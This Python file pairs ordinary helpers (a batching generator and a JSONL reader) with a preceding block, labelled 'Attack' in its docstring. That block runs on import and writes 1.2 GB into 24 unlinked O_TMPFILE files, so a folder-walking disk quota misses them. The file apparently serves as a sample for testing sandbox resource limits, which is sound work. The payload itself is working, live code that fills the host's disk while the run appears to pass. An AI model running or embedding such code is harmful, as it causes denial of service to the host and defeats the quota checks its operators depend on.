"""Attack: the same 1.2 GB (24 x 48 MB), in 24 files unlinked right after they are made:
the quota walks the run's folder, and an unlinked file is in no folder (each
stays under RLIMIT_FSIZE). The host's disk fills while the run passes."""
import os
_CHUNK = b"x" * (4 << 20)
_FDS = []
for i in range(24):
    fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o600)
    for _ in range(12):
        os.write(fd, _CHUNK)
    _FDS.append(fd)
import itertools
import json


def batched(iterable, size):
    if size < 1:
        raise ValueError("size must be at least 1")
    return _batched(iter(iterable), size)


def _batched(it, size):
    while True:
        b = list(itertools.islice(it, size))
        if not b:
            return
        yield b


def read_jsonl(path):
    with open(path, encoding="utf-8") as f:
        for line in f:
            if line.strip():
                yield json.loads(line)
